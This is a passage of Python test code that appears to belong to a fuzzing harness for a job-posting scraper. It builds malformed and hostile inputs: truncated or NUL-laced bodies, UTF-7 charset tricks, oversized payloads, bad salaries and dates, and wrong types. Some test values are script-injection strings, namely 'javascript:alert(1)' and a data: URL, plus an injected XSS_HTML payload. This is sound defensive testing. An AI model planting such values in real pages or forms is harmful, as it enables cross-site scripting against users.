    yield Case(target.name, "charset", f"{name}:declared-utf7", body, f"{bare_ct}; charset=utf-7")
    nul = b"".join(body[i : i + 64] + b"\x00" for i in range(0, len(body), 64))
    yield Case(target.name, "nul", f"{name}:every-64-bytes", nul)


def target_cases(target: Target) -> list[Case]:
    out: list[Case] = []
    bodies = target.bodies()
    per = max(3, TRUNCATIONS // max(1, len(bodies)))
    for name, body in bodies:
        out += [Case(target.name, "truncated", f"{name}@{cut}", body[:cut]) for cut in cut_points(len(body), per)]
    name, body = bodies[0]
    out += charset_cases(target, name, body)
    out += [Case(target.name, "generic", label, data, ct) for label, data, ct in GENERIC]
    out.append(Case(target.name, "huge", "20MB", lambda: huge_body(target)))
    if target.family == "json":
        out += json_mutations(target, body)
    elif target.family == "xml":
        out += rss_mutations(target, body)
    else:
        out.append(Case(target.name, "xss", f"{name}:injected", inject_html(target, body, XSS_HTML)))
        if target.jsonld:
            out += jsonld_mutations(target)
    out += [Case(target.name, "handwritten", f, (FILES / f).read_bytes()) for f in target.handwritten]
    return out


@cache
def cases() -> dict[str, list[Case]]:
    """Every case, by target name."""
    return {t.name: target_cases(t) for t in TARGETS}


# --- postings for the pipelines alone ----------------------------------------------------------------------
def item_cases() -> list[tuple[str, Any]]:
    """``(label, item)``: hostile postings (and non-postings) given straight to the pipelines."""
    out: list[tuple[str, Any]] = []
    fields = [f for f in JobPosting.__dataclass_fields__ if f not in ("source", "source_id", "title")]
    for variant in VARIANTS:
        if variant in ("containers", "nested"):
            continue
        pool = POOLS[variant]
        item = JobPosting(source="hostile", source_id=f"all-{variant}", title="Hostile posting")
        for n, name in enumerate(fields):
            setattr(item, name, pool[n % len(pool)])
        out.append((f"every-field:{variant}", item))
        for n, value in enumerate(pool[:12]):
            one = JobPosting(source="hostile", source_id=f"title-{variant}-{n}", title=value)
            out.append((f"title:{variant}:{n}", one))
    salaries = [(1e308, 1e308), (-1, -1), (NAN, NAN), (INF, -INF), (10**400, None), (5, 1), ("∞", "NaN"), (0, 0)]
    for n, (lo, hi) in enumerate(salaries):
        out.append((f"salary:{n}", JobPosting(
            source="hostile", source_id=f"salary-{n}", title="Pay", salary_min=lo, salary_max=hi,
            salary_currency=["USD"] if n % 2 else "XXX", salary_period="FORTNIGHT" if n % 3 else 5,
        )))  # fmt: skip
    for n, date in enumerate(POOLS["dates"]):
        out.append((f"dates:{n}", JobPosting(
            source="hostile", source_id=f"dates-{n}", title="Dates", posted_raw=date, valid_through_raw=date,
            posted_at=date if n % 2 else None, closed_at=date if isinstance(date, str) else None,
        )))  # fmt: skip
    out += [
        ("missing:source", JobPosting(source=None, source_id="1", title="t")),
        ("missing:title-nul", JobPosting(source="hostile", source_id="2", title="\x00\x00 ")),
        ("invalid:source_id-list", JobPosting(source="hostile", source_id=["1"], title="t")),  # type: ignore[arg-type]
        ("invalid:source_id-float", JobPosting(source="hostile", source_id=NAN, title="t")),  # type: ignore[arg-type]
        ("dict-item", {"source": "hostile", "source_id": "d1", "title": "from a dict", "unknown": 1}),
        ("dict-item-bad", {"source": 5, "source_id": {}, "title": []}),
        ("not-an-item:str", "just a string"),
        ("not-an-item:int", 12345),
        ("duplicate:a", JobPosting(source="hostile", source_id="dup", title="first")),
        ("duplicate:b", JobPosting(source="hostile", source_id="dup", title="second")),
        ("huge-description", JobPosting(source="hostile", source_id="huge", title="Huge",
                                         description_html=HUGE_PARAGRAPH * 30_000, description_text="x" * 2_000_000)),
        ("xss-description", JobPosting(source="hostile", source_id="xss", title="XSS", description_html=XSS_HTML,
                                        apply_url="javascript:alert(1)", company_url="data:text/html,x")),
    ]  # fmt: skip
    return out
